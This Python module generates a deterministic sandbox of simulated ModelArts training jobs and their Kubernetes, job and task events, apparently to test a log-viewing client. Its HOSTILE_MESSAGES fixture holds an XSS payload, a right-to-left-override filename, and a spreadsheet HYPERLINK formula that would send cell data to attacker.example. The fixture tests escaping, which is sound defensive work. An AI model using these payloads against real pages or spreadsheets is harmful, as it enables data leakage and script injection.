"""The sandbox's deterministic data set: training jobs and their events.

Every run of every process produces the same jobs and the same events (seeded
generators, fixed dates), except the live job, whose events arrive in real
time on a 6-hour cycle so that a fresh `make run` always has one running job
to watch. Messages imitate what ModelArts really records: Kubernetes pod and
job events, job phase changes and per-worker task lines, plus the hostile
text training code can print (HTML, very long lines, other scripts, control
and bidirectional characters, spreadsheet formulas).
"""

from __future__ import annotations

import random
import re
import threading
import time
from bisect import bisect_right
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime
from typing import Any

DEFAULT_PROJECT_ID = "0a1b2c3d4e5f60718293a4b5c6d7e8f9"


@dataclass(frozen=True)
class SandboxEvent:
    at: int  # epoch seconds; the API shows events to the second
    level: str
    source: str
    message: str


@dataclass
class SandboxJob:
    id: str
    name: str
    phase: str
    secondary_phase: str
    created: int  # epoch seconds
    description: str = ""
    user_name: str = "ml-engineer"
    started: int = 0
    ended: int | None = None
    flavor_id: str = "modelarts.p3.large.public"
    flavor_name: str = "GPU: 1*NVIDIA-V100(32GB) | CPU: 8vCPUs 64GB"
    flavor_type: str = "GPU"
    node_count: int = 1
    engine: tuple[str, str] = ("PyTorch", "pytorch_1.11.0-cuda_11.3")
    task_statuses: list[tuple[str, int, str]] = field(default_factory=list)
    # Counts as strings, as the docs type them, for some jobs, so the client
    # meets both forms every day.
    counts_as_strings: bool = False
    build_events: Callable[[SandboxJob], list[SandboxEvent]] | None = None
    live: bool = False

    def events(self, now: float | None = None) -> list[SandboxEvent]:
        """This job's events up to now, oldest first."""
        if self.live:
            return _live_events(self, time.time() if now is None else now)
        return _static_events(self)

    def duration_ms(self, now: float | None = None) -> int:
        if not self.started:
            return 0
        end = self.ended if self.ended is not None else int(time.time() if now is None else now)
        return max(0, end - self.started) * 1000


def _ts(text: str) -> int:
    return int(datetime.fromisoformat(text).timestamp())


# -- event builders -------------------------------------------------------------


class _Timeline:
    """Appends events at increasing times, a few seconds apart."""

    def __init__(self, start: int, seed: int) -> None:
        self.now = start
        self.rng = random.Random(seed)  # noqa: S311 - test data, not secrets
        self.events: list[SandboxEvent] = []
        self._k8s_count = 0

    def wait(self, low: int, high: int | None = None) -> None:
        self.now += low if high is None else self.rng.randint(low, high)

    def add(self, level: str, source: str, message: str) -> None:
        if source == "K8S":
            # The API's own example spells the source K8s now and then.
            self._k8s_count += 1
            if self._k8s_count % 5 == 0:
                source = "K8s"
        self.events.append(SandboxEvent(self.now, level, source, message))


def _pod(job: SandboxJob, worker: int) -> str:
    return f"modelarts-job-{job.id[:8]}-worker-{worker}"


def _start_up(t: _Timeline, job: SandboxJob, image: str) -> None:
    t.add("Info", "Job", "Training job created.")
    t.wait(2, 5)
    t.add("Info", "Job", "Training job is queuing.")
    t.wait(10, 40)
    for w in range(job.node_count):
        t.add("Info", "K8S", f"[Job: modelarts-job-{job.id[:8]}] Created pod: {_pod(job, w)}")
    for w in range(job.node_count):
        t.wait(0, 1)
        t.add(
            "Info",
            "K8S",
            f"[Pod: {_pod(job, w)}] Successfully assigned modelarts/{_pod(job, w)} "
            f"to 192.168.0.{11 + w}",
        )
    for w in range(job.node_count):
        t.wait(0, 2)
        t.add("Info", "K8S", f'[Pod: {_pod(job, w)}] Pulling image "{image}"')
    t.wait(30, 70)
    for w in range(job.node_count):
        t.add(
            "Info",
            "K8S",
            f'[Pod: {_pod(job, w)}] Successfully pulled image "{image}" in {t.rng.randint(28, 66)}.'
            f"{t.rng.randint(0, 9)}s",
        )
        t.add("Info", "K8S", f"[Pod: {_pod(job, w)}] Created container modelarts-training")
        t.add("Info", "K8S", f"[Pod: {_pod(job, w)}] Started container modelarts-training")
    t.wait(3, 8)
    t.add("Info", "Job", "Training job is running.")
    for w in range(job.node_count):
        t.wait(1, 3)
        t.add("Info", "Task", f"[worker-{w}] Pre-check passed.")
        t.add("Info", "Task", f"[worker-{w}] Code download completed.")
        t.wait(1, 4)
        t.add("Info", "Task", f"[worker-{w}] Training started.")


IMAGE = "swr.cn-north-4.myhuaweicloud.com/modelarts-job-dev-image/pytorch_1_11:train"

HOSTILE_MESSAGES = (
    "[worker-1] <script>alert('eventsui')</script> loading dataset from obs://bucket/<img src=x "
    "onerror=alert(1)>",
    "[worker-2] 数据加载完成，共 1281167 张图片；验证集 50000 张。",
    "[worker-3] تم تحميل مجموعة البيانات بنجاح — 1281167 صورة",
    "[worker-0] saved checkpoint to /cache/\u202egpj.exe (file name with a right-to-left override)",
    "[worker-1] \x1b[31mWARNING\x1b[0m colour codes and a bell\x07 from a tqdm progress bar",
    '[worker-2] =HYPERLINK("http://attacker.example/?leak="&A1,"click for details")',
    "[worker-0] UserWarning: "
    + " ".join(
        f"torch.utils.data.DataLoader worker {i} is slow to start (queue depth {i * 7})"
        for i in range(120)
    ),
)


def _failed_job_events(job: SandboxJob) -> list[SandboxEvent]:
    t = _Timeline(job.created, seed=1)
    _start_up(t, job, IMAGE)
    hostile = iter(HOSTILE_MESSAGES)
    for epoch in range(1, 4):
        for step in range(100, 1001, 100):
            for w in range(job.node_count):
                t.wait(5, 15)
                loss = 6.9 - epoch * 0.8 - step / 2000 + t.rng.random() * 0.05
                t.add(
                    "Info",
                    "Task",
                    f"[worker-{w}] epoch {epoch}/90 step {step}: loss={loss:.4f} lr=0.1 "
                    f"throughput={t.rng.randint(780, 830)} img/s",
                )
            if step % 300 == 0:
                message = next(hostile, None)
                if message is not None:
                    t.add("Info", "Task", message)
    t.wait(20)
    t.add(
        "Warning", "K8S", f"[Pod: {_pod(job, 3)}] Memory usage is above 95% of the limit (61.2Gi)."
    )
    t.wait(40)
    t.add(
        "Warning",
        "Task",
        "[worker-3] RuntimeError: CUDA out of memory. Tried to allocate 2.00 GiB (GPU 0; 31.75 "
        "GiB total capacity; 29.10 GiB already allocated)",
    )
    t.wait(2)
    t.add(
        "Error",
        "K8S",
        f"[Pod: {_pod(job, 3)}] Container modelarts-training was OOMKilled (exit code 137).",
    )
    t.add("Error", "Task", "[worker-3] Training finished. Exit code 137.")
    t.wait(31)
    for w in (0, 1, 2):
        t.add(
            "Error",
            "Task",
            f"[worker-{w}] RuntimeError: NCCL communicator was aborted on rank {w}. Original "
            "reason for failure was: NCCL error: remote process exited or there was a network "
            "error",
        )
        t.add("Error", "Task", f"[worker-{w}] Training finished. Exit code 1.")
    t.wait(4)
    t.add("Error", "Job", "Training job failed.")
    t.wait(2, 6)
    for w in range(job.node_count):
        t.add("Info", "K8S", f"[Job: modelarts-job-{job.id[:8]}] Deleted pod: {_pod(job, w)}")
    job.ended = t.now
    return t.events


def _completed_job_events(job: SandboxJob) -> list[SandboxEvent]:
    t = _Timeline(job.created, seed=2)
    _start_up(t, job, IMAGE)
    for epoch in range(1, 4):
        for step in range(0, 3000, 250):
            for w in range(job.node_count):
                t.wait(20, 40)
                t.add(
                    "Info",
                    "Task",
                    f"[worker-{w}] epoch {epoch}/3 step {step}: loss={2.1 / epoch:.3f} "
                    f"f1={0.71 + epoch * 0.05:.3f}",
                )
        t.add("Info", "Task", f"[worker-0] Saved checkpoint obs://bert-runs/epoch-{epoch}.pt")
    t.wait(10)
    t.add(
        "Warning",
        "Task",
        "[worker-1] Output upload is slow: 1.3 GiB to obs://bert-runs/output took 94 s",
    )
    for w in range(job.node_count):
        t.wait(3)
        t.add("Info", "Task", f"[worker-{w}] Output upload completed.")
        t.add("Info", "Task", f"[worker-{w}] Training finished. Exit code 0.")
    t.wait(5)
    t.add("Info", "Job", "Training job completed.")
    job.ended = t.now
    return t.events


def _long_job_events(job: SandboxJob) -> list[SandboxEvent]:
    """About thirty thousand events over a week of pre-training."""
    t = _Timeline(job.created, seed=3)
    _start_up(t, job, "swr.cn-north-4.myhuaweicloud.com/atelier/mindspore_2_2_ascend:latest")
    step = 0
    while len(t.events) < 30_000:
        step += 10
        for w in range(job.node_count):
            t.wait(0, 4)
            t.add(
                "Info",
                "Task",
                f"[worker-{w}] step {step}: loss={2.0 + 8.0 / (1 + step / 5000):.4f} "
                f"tokens/s={t.rng.randint(9800, 10400)}",
            )
        roll = t.rng.random()
        if roll < 0.01:
            w = t.rng.randrange(job.node_count)
            t.add(
                "Warning",
                "Task",
                f"[worker-{w}] HCCL watchdog: allreduce took {t.rng.randint(40, 90)}s",
            )
        elif roll < 0.0015 + 0.01:
            w = t.rng.randrange(job.node_count)
            t.add("Error", "Task", f"[worker-{w}] Device error: HBM ECC error on device {w}.")
            t.add("Warning", "Job", "Training job is restarting (fault tolerance: 1 of 3 retries).")
            t.add("Info", "Job", "Training job is running.")
        elif roll < 0.02:
            t.add(
                "Info",
                "K8S",
                f"[Pod: {_pod(job, t.rng.randrange(job.node_count))}] Liveness probe passed.",
            )
    return t.events


def _pending_job_events(job: SandboxJob) -> list[SandboxEvent]:
    t = _Timeline(job.created, seed=4)
    t.add("Info", "Job", "Training job created.")
    t.wait(3)
    t.add("Info", "Job", "Training job is queuing.")
    for _ in range(12):
        t.wait(300)
        t.add(
            "Warning",
            "K8S",
            "[Job: modelarts-job-vit] 0/12 nodes are available: 12 Insufficient "
            "huawei.com/ascend-1980.",
        )
    return t.events


def _creating_job_events(job: SandboxJob) -> list[SandboxEvent]:
    t = _Timeline(job.created, seed=5)
    t.add("Info", "Job", "Training job created.")
    return t.events


def _terminated_job_events(job: SandboxJob) -> list[SandboxEvent]:
    t = _Timeline(job.created, seed=6)
    _start_up(t, job, IMAGE)
    for step in range(0, 2000, 100):
        t.wait(30, 60)
        t.add("Info", "Task", f"[worker-0] step {step}: box_loss=0.0{t.rng.randint(31, 89)}")
    t.wait(10)
    t.add("Info", "Job", "Training job is being stopped manually by user ml-engineer.")
    t.add("Info", "K8S", f"[Pod: {_pod(job, 0)}] Stopping container modelarts-training")
    t.wait(5)
    t.add("Info", "Job", "Training job stopped.")
    job.ended = t.now
    return t.events


def _many_workers_job_events(job: SandboxJob) -> list[SandboxEvent]:
    """Twelve workers, so worker-1 and worker-10/11 share a prefix (the worker filter)."""
    t = _Timeline(job.created, seed=9)
    _start_up(t, job, IMAGE)
    for step in range(100, 501, 100):
        for w in range(job.node_count):
            t.wait(1, 3)
            t.add("Info", "Task", f"[worker-{w}] step {step}: loss={3.0 - step / 400:.3f}")
    t.wait(5)
    t.add("Warning", "K8S", f"[Pod: {_pod(job, 10)}] Readiness probe failed: connection refused")
    t.add("Warning", "Task", "[worker-10] NCCL WARN Call to connect returned Connection refused")
    for w in range(job.node_count):
        t.wait(0, 2)
        t.add("Info", "Task", f"[worker-{w}] Training finished. Exit code 0.")
    t.wait(5)
    t.add("Info", "Job", "Training job completed.")
    for w in range(job.node_count):
        t.add("Info", "K8S", f"[Job: modelarts-job-{job.id[:8]}] Deleted pod: {_pod(job, w)}")
    job.ended = t.now
    return t.events


MANY_WORKERS_JOB_ID = "4d3c2b1a-0f9e-4d8c-b7a6-5f4e3d2c1b0a"


def _abnormal_job_events(job: SandboxJob) -> list[SandboxEvent]:
    t = _Timeline(job.created, seed=7)
    t.add("Info", "Job", "Training job created.")
    t.wait(2)
    t.add(
        "Error",
        "Job",
        "Failed to create the training job: the flavor modelarts.p3.8xlarge.public is sold out "
        "in this region.",
    )
    return t.events


# -- a failure of every cause (the failures page) --------------------------------

# (seconds to wait, level, source, message); "{pod0}" names worker-0's pod.
Step = tuple[int, str, str, str]


def _scripted(
    seed: int, steps: tuple[Step, ...], *, started: bool = True
) -> Callable[[SandboxJob], list[SandboxEvent]]:
    """An event builder: the usual start-up (when the job got that far), a few
    training lines, then the steps, in the wording of the ModelArts docs."""

    def build(job: SandboxJob) -> list[SandboxEvent]:
        t = _Timeline(job.created, seed=seed)
        if started:
            _start_up(t, job, IMAGE)
            for step in range(100, 600, 100):
                for w in range(job.node_count):
                    t.wait(10, 30)
                    t.add("Info", "Task", f"[worker-{w}] step {step}: loss={3 - step / 400:.4f}")
        else:
            t.add("Info", "Job", "Training job created.")
            t.wait(2, 5)
            t.add("Info", "Job", "Training job is queuing.")
        for wait, level, source, message in steps:
            t.wait(wait)
            t.add(level, source, message.format(pod0=_pod(job, 0), pod1=_pod(job, 1)))
        if job.phase == "Failed":
            t.wait(3)
            t.add("Error", "Job", "Training job failed.")
        job.ended = t.now
        return t.events

    return build


_IMAGE_PULL: tuple[Step, ...] = (
    (
        5,
        "Info",
        "K8S",
        '[Pod: {pod0}] Pulling image "swr.cn-north-4.myhuaweicloud.com/team-ml/detr:v2-missing"',
    ),
    (
        20,
        "Warning",
        "K8S",
        '[Pod: {pod0}] Failed to pull image "swr.cn-north-4.myhuaweicloud'
        '.com/team-ml/detr:v2-missing": rpc error: code = NotFound desc = manifest unknown',
    ),
    (0, "Error", "K8S", "[Pod: {pod0}] Error: ErrImagePull"),
    (
        30,
        "Error",
        "K8S",
        '[Pod: {pod0}] Back-off pulling image "swr.cn-north-4.myhuaweicloud'
        '.com/team-ml/detr:v2-missing"',
    ),
    (0, "Error", "K8S", "[Pod: {pod0}] Error: ImagePullBackOff"),
)
_DATA_DOWNLOAD: tuple[Step, ...] = (
    (40, "Info", "K8S", "[Pod: {pod0}] Started container modelarts-training"),
    (
        3,
        "Error",
        "Task",
        "[worker-0] Failed to download the training input (parameter: "
        "data_url). Failure cause: OBS 403 Forbidden: AccessDenied on obs://speech-data/train/",
    ),
)
_PRE_CHECK: tuple[Step, ...] = (
    (40, "Info", "K8S", "[Pod: {pod0}] Started container modelarts-training"),
    (
        4,
        "Error",
        "Task",
        "[worker-1] Pre-check failed. Error: the GPU driver is not ready "
        "(nvidia-smi: No devices were found).",
    ),
)
_HANG: tuple[Step, ...] = (
    (
        1800,
        "Warning",
        "Job",
        "Training job may be suspended: no log output from worker-1 for "
        "30 minutes (MA_HANG_DETECT_TIME).",
    ),
    (600, "Error", "Job", "Training job is stopped by hang detection."),
)
_PREEMPTED: tuple[Step, ...] = (
    (60, "Warning", "Job", "Training job is preempted by a job of higher priority."),
    (5, "Info", "K8S", "[Pod: {pod0}] Stopping container modelarts-training"),
)
_MAX_DURATION: tuple[Step, ...] = (
    (
        120,
        "Warning",
        "Job",
        "Training job is stopped because it reached the maximum running duration (24 hours).",
    ),
    (5, "Info", "K8S", "[Pod: {pod0}] Stopping container modelarts-training"),
)
_USER_CODE: tuple[Step, ...] = (
    (15, "Error", "Task", "[worker-0] KeyError: 'attention_mask'"),
    (0, "Error", "Task", "[worker-0] Training finished. Exit code 1."),
)
_COMMUNICATION: tuple[Step, ...] = (
    (
        50,
        "Error",
        "Task",
        "[worker-1] RuntimeError: NCCL error in: ProcessGroupNCCL.cpp:825, "
        "unhandled system error, NCCL version 2.10.3",
    ),
    (0, "Error", "Task", "[worker-1] Training finished. Exit code 1."),
    (1, "Error", "Task", "[worker-0] RuntimeError: NCCL communicator was aborted on rank 0."),
    (0, "Error", "Task", "[worker-0] Training finished. Exit code 1."),
)
_LOST: tuple[Step, ...] = (
    (3600, "Warning", "Job", "Training job status is unknown: the node stopped reporting."),
)


# -- the live job -----------------------------------------------------------------

LIVE_CYCLE_SECONDS = 6 * 3600
LIVE_EVENT_EVERY = 2
_live_cache: dict[int, list[SandboxEvent]] = {}
_live_lock = threading.Lock()


def live_cycle_start(now: float) -> int:
    """The live job restarts every 6 hours, on UTC-aligned boundaries."""
    return int(now // LIVE_CYCLE_SECONDS * LIVE_CYCLE_SECONDS)


def _live_full_cycle(start: int, job: SandboxJob) -> list[SandboxEvent]:
    t = _Timeline(start, seed=8)
    t.add("Info", "Job", "Training job created.")
    t.wait(2)
    t.add("Info", "Job", "Training job is running.")
    step = 0
    while t.now < start + LIVE_CYCLE_SECONDS:
        t.wait(LIVE_EVENT_EVERY)
        step += 1
        w = step % job.node_count
        if step % 97 == 0:
            t.add("Warning", "Task", f"[worker-{w}] Data loader stalled for 3.1 s at step {step}.")
        else:
            t.add("Info", "Task", f"[worker-{w}] step {step}: loss={4.0 / (1 + step / 400):.4f}")
    return t.events


def _live_events(job: SandboxJob, now: float) -> list[SandboxEvent]:
    start = live_cycle_start(now)
    with _live_lock:
        events = _live_cache.get(start)
        if events is None:
            _live_cache.clear()
            events = _live_full_cycle(start, job)
            _live_cache[start] = events
    return events[: bisect_right([e.at for e in events], int(now))] if events else []


_static_cache: dict[str, list[SandboxEvent]] = {}
_static_lock = threading.Lock()


def _static_events(job: SandboxJob) -> list[SandboxEvent]:
    with _static_lock:
        events = _static_cache.get(job.id)
        if events is None:
            assert job.build_events is not None
            events = job.build_events(job)
            _static_cache[job.id] = events
    return events


# -- the jobs -------------------------------------------------------------------

FAILED_JOB_ID = "3faf5c03-aaa1-4cbe-879d-24b05d997347"
COMPLETED_JOB_ID = "5d2c8b1e-7f3a-4e61-9a0c-1b2f3e4d5a6b"
LONG_JOB_ID = "9e8d7c6b-5a49-4382-a1b0-c9d8e7f6a5b4"
LIVE_JOB_ID = "1c2d3e4f-5a6b-4c7d-8e9f-0a1b2c3d4e5f"


def _build_jobs() -> list[SandboxJob]:
    jobs = [
        SandboxJob(
            id=FAILED_JOB_ID,
            name="resnet50-imagenet",
            phase="Failed",
            secondary_phase="Failed",
            description="ResNet-50 on ImageNet-1k, 4 nodes",
            created=_ts("2026-11-20T01:58:12+00:00"),
            node_count=4,
            counts_as_strings=True,
            build_events=_failed_job_events,
            task_statuses=[
                ("worker-0", 1, "NCCL communicator was aborted"),
                ("worker-3", 137, "OOMKilled"),
            ],
        ),
        SandboxJob(
            id=COMPLETED_JOB_ID,
            name="bert-base-finetune",
            phase="Completed",
            secondary_phase="Completed",
            description="BERT-base fine-tuning on an internal NER set",
            created=_ts("2026-11-18T08:30:00+00:00"),
            node_count=2,
            build_events=_completed_job_events,
            task_statuses=[("worker-0", 0, ""), ("worker-1", 0, "")],
        ),
        SandboxJob(
            id=LONG_JOB_ID,
            name="llama-7b-pretrain",
            phase="Running",
            secondary_phase="Running",
            description="7B pre-training on Ascend, a week of events",
            created=_ts("2026-11-12T00:00:00+00:00"),
            node_count=8,
            flavor_id="modelarts.pool.visual.xlarge",
            flavor_name="Ascend: 8*ascend-snt9b(64GB) | ARM: 192vCPUs 1536GB",
            flavor_type="Ascend",
            engine=("MindSpore", "mindspore_2.2.0-cann_7.0.0"),
            build_events=_long_job_events,
        ),
        SandboxJob(
            id=LIVE_JOB_ID,
            name="live-tail-demo",
            phase="Running",
            secondary_phase="Running",
            description="Writes an event every two seconds; restarts every six hours",
            created=0,
            node_count=2,
            counts_as_strings=True,
            live=True,
        ),
        SandboxJob(
            id="7a6b5c4d-3e2f-4a1b-8c9d-0e1f2a3b4c5d",
            name="vit-hparam-sweep",
            phase="Pending",
            secondary_phase="Queuing",
            created=_ts("2026-11-26T22:10:00+00:00"),
            node_count=2,
            build_events=_pending_job_events,
        ),
        SandboxJob(
            id="2b3c4d5e-6f7a-4b8c-9d0e-1f2a3b4c5d6e",
            name="gpt2-data-prep",
            phase="Creating",
            secondary_phase="Creating",
            created=_ts("2026-11-27T06:00:00+00:00"),
            flavor_type="CPU",
            flavor_id="modelarts.vm.cpu.8u",
            flavor_name="CPU: 8vCPUs 32GB",
            build_events=_creating_job_events,
        ),
        SandboxJob(
            id="6e5d4c3b-2a19-4807-b6a5-f4e3d2c1b0a9",
            name="yolo-v8-detect",
            phase="Terminated",
            secondary_phase="Terminated",
            created=_ts("2026-11-15T13:45:00+00:00"),
            build_events=_terminated_job_events,
        ),
        SandboxJob(
            id="8f9e0d1c-2b3a-4c5d-9e6f-7a8b9c0d1e2f",
            name="wav2vec-asr",
            phase="Abnormal",
            secondary_phase="CreateFailed",
            created=_ts("2026-11-14T09:12:00+00:00"),
            flavor_id="modelarts.p3.8xlarge.public",
            build_events=_abnormal_job_events,
        ),
        SandboxJob(
            id=MANY_WORKERS_JOB_ID,
            name="ddp-12-workers",
            phase="Completed",
            secondary_phase="Completed",
            description="Data-parallel training on 12 nodes",
            created=_ts("2026-11-10T07:00:00+00:00"),
            node_count=12,
            build_events=_many_workers_job_events,
            task_statuses=[(f"worker-{w}", 0, "") for w in range(12)],
        ),
        *_failure_gallery(),
    ]
    for job in jobs:
        if job.live or job.phase in ("Creating", "Pending", "Abnormal"):
            continue
        job.events()  # sets ended for finished jobs
        job.started = job.created + 60
    return jobs


def _failure_gallery() -> list[SandboxJob]:
    """A failed job of every cause, within 24 hours of 2026-11-30, within a week, older."""

    def failed(
        id: str, name: str, created: str, steps: tuple[Step, ...], seed: int, **more: Any
    ) -> SandboxJob:
        return SandboxJob(
            id=id,
            name=name,
            phase=more.pop("phase", "Failed"),
            secondary_phase=more.pop("secondary_phase", "Failed"),
            created=_ts(created),
            build_events=_scripted(seed, steps, started=more.pop("started", True)),
            **more,
        )

    return [
        failed(
            "a1f0c3e2-0001-4a5b-8c6d-7e8f9a0b1c2d",
            "detr-coco-v2",
            "2026-11-29T20:40:00+00:00",
            _IMAGE_PULL,
            11,
            started=False,
        ),
        failed(
            "a1f0c3e2-0002-4a5b-8c6d-7e8f9a0b1c2d",
            "whisper-finetune",
            "2026-11-28T07:15:00+00:00",
            _DATA_DOWNLOAD,
            12,
            task_statuses=[("worker-0", 2, "Failed to download the training input")],
        ),
        failed(
            "a1f0c3e2-0003-4a5b-8c6d-7e8f9a0b1c2d",
            "sd-xl-lora",
            "2026-11-27T11:30:00+00:00",
            _PRE_CHECK,
            13,
            node_count=2,
            task_statuses=[("worker-1", 1, "Pre-check failed")],
        ),
        failed(
            "a1f0c3e2-0004-4a5b-8c6d-7e8f9a0b1c2d",
            "t5-summarise",
            "2026-11-25T16:05:00+00:00",
            _HANG,
            14,
            node_count=2,
        ),
        failed(
            "a1f0c3e2-0005-4a5b-8c6d-7e8f9a0b1c2d",
            "mae-pretrain-small",
            "2026-11-30T01:15:00+00:00",
            _PREEMPTED,
            15,
        ),
        failed(
            "a1f0c3e2-0006-4a5b-8c6d-7e8f9a0b1c2d",
            "gnn-molecules",
            "2026-11-24T03:20:00+00:00",
            _MAX_DURATION,
            16,
        ),
        failed(
            "a1f0c3e2-0007-4a5b-8c6d-7e8f9a0b1c2d",
            "distil-sentiment",
            "2026-11-29T09:00:00+00:00",
            _USER_CODE,
            17,
            task_statuses=[("worker-0", 1, "")],
        ),
        failed(
            "a1f0c3e2-0008-4a5b-8c6d-7e8f9a0b1c2d",
            "deepspeech-multinode",
            "2026-11-10T14:45:00+00:00",
            _COMMUNICATION,
            18,
            node_count=2,
            task_statuses=[("worker-0", 1, ""), ("worker-1", 1, "")],
        ),
        failed(
            "a1f0c3e2-0009-4a5b-8c6d-7e8f9a0b1c2d",
            "clip-retrieval",
            "2026-11-01T10:00:00+00:00",
            _LOST,
            19,
            phase="Abnormal",
            secondary_phase="Lost",
        ),
    ]


_jobs: list[SandboxJob] | None = None
_jobs_lock = threading.Lock()


def jobs(now: float | None = None) -> list[SandboxJob]:
    """All sandbox jobs, newest first; the live job's dates follow the clock."""
    global _jobs
    with _jobs_lock:
        if _jobs is None:
            _jobs = _build_jobs()
    current = time.time() if now is None else now
    for job in _jobs:
        if job.live:
            job.created = live_cycle_start(current)
            job.started = job.created + 2
    return sorted(_jobs, key=lambda j: j.created, reverse=True)


def find_job(job_id: str) -> SandboxJob | None:
    return next((job for job in jobs() if job.id == job_id), None)


def as_utc(epoch_seconds: int) -> datetime:
    return datetime.fromtimestamp(epoch_seconds, tz=UTC)


# -- synthetic jobs of any size (the benchmark) -------------------------------------


# Seconds between a running synthetic job's last event and when it was added.
RUNNING_LAG = 3


def synthetic_job_id(count: int, seed: int = 0, running: bool = False) -> str:
    """The id add_synthetic_job gives a job of `count` events from `seed`."""
    variant = "9000" if running else "8000"
    return f"5e5e5e5e-{seed % 0x10000:04x}-4000-{variant}-{count % 16**12:012x}"


def _synthetic_events(job: SandboxJob, count: int, seed: int) -> list[SandboxEvent]:
    """`count` task, Kubernetes and job events, a second or two apart, from one seed."""
    rng = random.Random(seed)  # noqa: S311 - test data, not secrets
    at = job.created
    events: list[SandboxEvent] = []
    for i in range(count):
        at += rng.randint(1, 2)
        worker = i % job.node_count
        roll = rng.random()
        if roll < 0.002:
            event = SandboxEvent(at, "Error", "Task", f"[worker-{worker}] NCCL timeout at step {i}")
        elif roll < 0.02:
            event = SandboxEvent(
                at, "Warning", "Task", f"[worker-{worker}] Data loader stalled at step {i}."
            )
        elif roll < 0.05:
            event = SandboxEvent(
                at, "Info", "K8S", f"[Pod: {_pod(job, worker)}] Liveness probe passed."
            )
        else:
            event = SandboxEvent(
                at,
                "Info",
                "Task",
                f"[worker-{worker}] step {i}: loss={4.0 / (1 + i / 2000):.4f} "
                f"tokens/s={rng.randint(9800, 10400)}",
            )
        events.append(event)
    return events


def add_synthetic_job(count: int, seed: int = 0, running: bool = False) -> SandboxJob:
    """Add to this process's sandbox a job of exactly `count` events.

    For the benchmark (bench/run.py): the same count and seed always give the
    same id and events. The events are generated on the job's first events
    request and kept, like every other job's (about 30 MB for 100,000); the
    job lists newest of all. Adding the same job again returns the one added.

    By default the job has completed, well in the past. With `running` it is
    still Running, with no end, and its last event is RUNNING_LAG seconds
    before it was added (its own id: the same count and seed differ from the
    completed job's), so its newest events fall in a short cache TTL.
    """
    job_id = synthetic_job_id(count, seed, running)
    jobs()  # the built-in jobs first, so they are never built over this one
    with _jobs_lock:
        assert _jobs is not None
        existing = next((job for job in _jobs if job.id == job_id), None)
        if existing is not None:
            return existing
        if running:
            # The events span the same seconds from any start: measure them from 0.
            span = _synthetic_events(SandboxJob("", "", "", "", 0, node_count=4), count, seed)
            created = int(time.time()) - RUNNING_LAG - (span[-1].at if span else 0)
        else:
            # Well in the past, so an export's window (up to now) holds every event.
            created = _ts("2025-11-01T00:00:00+00:00")
        phase = "Running" if running else "Completed"
        job = SandboxJob(
            id=job_id,
            name=f"synthetic-{count}-events{'-running' if running else ''}",
            phase=phase,
            secondary_phase=phase,
            description=f"{count} generated events (seed {seed}) for benchmarks",
            created=created,
            started=created + 60,
            node_count=4,
            # No event is later (they are one or two seconds apart).
            ended=None if running else created + 2 * count,
            build_events=lambda j: _synthetic_events(j, count, seed),
        )
        _jobs.append(job)
    return job


# What the sandbox says in Chinese (X-Language: zh-cn), as ModelArts answers in
# the caller's language: the job's phase changes and the failed jobs' failure
# events. Anything else, and every English caller, gets the English text.
# Tokens the failure causes match (OOMKilled, exit code N) stay as they are.
_CHINESE_MESSAGES = {
    "Training job created.": "训练作业已创建。",
    "Training job is queuing.": "训练作业排队中。",
    "Training job is running.": "训练作业运行中。",
    "Training job failed.": "训练作业失败。",
    "Training job completed.": "训练作业已完成。",
    "Training job stopped.": "训练作业已停止。",
}
_CHINESE_PATTERNS = (
    (
        re.compile(r"^\[worker-(\d+)\] Training finished\. Exit code (\d+)\.$"),
        r"[worker-\1] 训练结束，exit code \2。",
    ),
    (
        re.compile(
            r"^\[Pod: ([^\]]+)\] Container modelarts-training was OOMKilled \(exit code 137\)\.$"
        ),
        r"[Pod: \1] 容器 modelarts-training 内存不足被终止（OOMKilled，exit code 137）。",
    ),
    (
        re.compile(r"^\[Pod: ([^\]]+)\] Memory usage is above 95% of the limit \(([^)]+)\)\.$"),
        r"[Pod: \1] 内存使用量超过上限（\2）的 95%。",
    ),
)


def message_in(message: str, language: str) -> str:
    """An event's message in the caller's X-Language: Chinese where the sandbox has it."""
    if language != "zh-cn":
        return message
    if message in _CHINESE_MESSAGES:
        return _CHINESE_MESSAGES[message]
    for pattern, chinese in _CHINESE_PATTERNS:
        if pattern.match(message):
            return pattern.sub(chinese, message)
    return message
